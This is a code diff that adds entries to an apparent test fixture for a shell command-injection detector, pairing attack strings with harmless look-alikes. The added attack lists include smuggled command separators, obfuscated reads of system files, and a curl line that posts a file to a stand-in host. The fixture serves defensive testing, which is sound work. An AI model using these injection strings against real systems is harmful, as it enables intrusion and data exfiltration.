@@ -59,10 +59,17 @@ ATTACKS = {
         "b22 LOGIN a b", "x\r\nA01 LIST a b", ";\n.shell ls", ";.import a b"],
     "ends": ["x%0aenv", "10.0.0.1\nset", "x;date%00", "a.txt|sort\0", "'.system('ls').'", "x=1&date", "a'&date'"],
     "backticks": ["use `curl a.example`", "`date`", "see `cat ./x`", "`/bin/x`", "`$x`"],
+    "closed": ["id;", "whoami|", "hostname&&", "/usr/bin/id||"],
+    "form-encoded": ["x||php+-r+'x();'", "x;ls+-la+/x", "cat+/etc/group"],
+    "other tools": ["ping -c 9 10.0.0.1", "ls -la /x", "type C:\\boot.ini", "start x.exe", "& calc", "awk 'BEGIN{x}'",
+        "openssl s_client -connect a:1", "telnet 10.0.0.1 80", "wmic os get x", "curl -d @/x http://a.example",
+        "system(pwd)", ";. /x/y.sh", "x;Start-Sleep 5", "iex(x)", "[System.Net.Dns]::Resolve('x')", "cat /et''c/gro''up",
+        "wh`o`ami", "\nroute print"],
     "history": ["!-2", "x; !12", "!!"],
 }  # fmt: skip
 
 HARMLESS = [
+    "c++", "a+b;c", "1+1=2;ok", "sleep; rest", "cats;", "ping pong", "start the show", "awk, sed and perl",
     "use the `name` field", "see `docs/a.md` for `Config`", "``x`` and ``y``", "| Date | Name |",
     "| Sort | by `date` |", "\n\nfind attached",
     "make(1) and sort(1)", "class A { void f() { } }", "Well\n\ntime will tell",
